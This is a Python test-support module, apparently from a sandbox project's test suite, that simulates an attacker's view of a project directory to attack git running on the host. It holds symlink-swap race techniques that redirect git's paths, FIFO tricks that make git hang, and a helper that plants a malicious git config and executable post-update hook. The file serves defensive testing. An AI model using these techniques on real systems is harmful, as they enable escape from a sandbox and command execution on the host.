"""Attacks on git on the host: links that lead it elsewhere, and files that it waits for.

``view`` is the project as the attacker sees it. Standard library only, as in ``attacks``.
"""

import os
from collections.abc import Callable
from pathlib import Path

from tests.support.exploits import write_config
from tests.support.raw_calls import RENAME_EXCHANGE, renameat2

Swap = Callable[[Path, Path], None]
"""Put the object at the second path in the place of the first, a directory."""


def by_exchange(directory: Path, link: Path) -> None:
    renameat2(link, directory, RENAME_EXCHANGE)


def by_two_renames(directory: Path, link: Path) -> None:
    directory.rename(directory.with_name("gone"))
    link.rename(directory)


def by_a_new_symlink(directory: Path, link: Path) -> None:
    text = os.readlink(link)
    directory.rename(directory.with_name("gone"))
    directory.symlink_to(text)


def by_a_new_name_of_the_symlink(directory: Path, link: Path) -> None:
    directory.rename(directory.with_name("gone"))
    os.link(link, directory, follow_symlinks=False)


def by_exchange_of_the_parent(directory: Path, link: Path) -> None:
    """``link`` lies in a directory of its own that takes the place of the whole parent."""
    renameat2(link.parent, directory.parent, RENAME_EXCHANGE)


SWAPS: tuple[Swap, ...] = (
    by_exchange,
    by_two_renames,
    by_a_new_symlink,
    by_a_new_name_of_the_symlink,
    by_exchange_of_the_parent,
)


def lead_by(view: Path, place: str, text: str, swap: Swap) -> None:
    """Put a symlink in the place of a directory. It is prepared beside it, at the same depth."""
    link = view / "q" / Path(place).name
    link.parent.mkdir()
    link.symlink_to(text)
    (view / "later").symlink_to(".")
    swap(view / place, link)


def lead_parent(view: Path, text: str) -> None:
    """``libs`` becomes a symlink."""
    (view / "libs").rename(view / "libs2")
    (view / "libs").symlink_to(text)


def lead_work_tree(view: Path, text: str) -> None:
    """``libs/sub``, a work tree, becomes a symlink; it is itself at libs2/sub from now on."""
    (view / "libs").rename(view / "libs2")
    (view / "libs").mkdir()
    (view / "libs/sub").symlink_to(text)


def lead_work_tree_in_two_steps(view: Path, text: str) -> None:
    (view / "a").symlink_to(text)
    (view / "libs").rename(view / "libs2")
    (view / "libs").mkdir()
    (view / "libs/sub").symlink_to("../a")


def move_up_a_link(view: Path, text: str) -> None:
    """At first the text leads nowhere out: there are directories enough above it."""
    deep = view / "d1/d2/d3/d4/d5/d6/d7/d8"
    deep.mkdir(parents=True)
    (deep / "sub").symlink_to(text)
    (view / "libs").rename(view / "libs2")
    (view / "libs").mkdir()
    (deep / "sub").rename(view / "libs/sub")


def move_up_a_directory_with_a_link(view: Path, text: str) -> None:
    deep = view / "d1/d2/d3/d4/d5/d6/d7/d8"
    deep.mkdir(parents=True)
    (deep / "sub").symlink_to(text)
    (view / "libs").rename(view / "libs2")
    deep.rename(view / "libs")


def plant_payload(directory: Path, command: str) -> None:
    """Change what git reads in a repository of which the host has made two parts."""
    write_config(directory / "config", command, worktree="..")
    (directory / "hooks/post-update").write_text(f"#!/bin/sh\n{command}\n")
    (directory / "hooks/post-update").chmod(0o755)


def by_making_a_fifo(path: Path) -> None:
    os.mkfifo(path)


def by_moving_a_fifo(path: Path) -> None:
    os.mkfifo(path.with_name("pipe"))
    path.with_name("pipe").rename(path)


def by_linking_a_fifo(path: Path) -> None:
    os.mkfifo(path.with_name("pipe"))
    os.link(path.with_name("pipe"), path)


def by_exchanging_a_fifo(path: Path) -> None:
    path.touch()
    os.mkfifo(path.with_name("pipe"))
    renameat2(path.with_name("pipe"), path, RENAME_EXCHANGE)


def by_exchanging_with_a_fifo(path: Path) -> None:
    path.touch()
    os.mkfifo(path.with_name("pipe"))
    renameat2(path, path.with_name("pipe"), RENAME_EXCHANGE)


def by_a_symlink_to_a_fifo(path: Path) -> None:
    os.mkfifo(path.with_name("pipe"))
    path.symlink_to("pipe")


STOPPED_BY = (
    by_making_a_fifo,
    by_moving_a_fifo,
    by_linking_a_fifo,
    by_exchanging_a_fifo,
    by_exchanging_with_a_fifo,
)
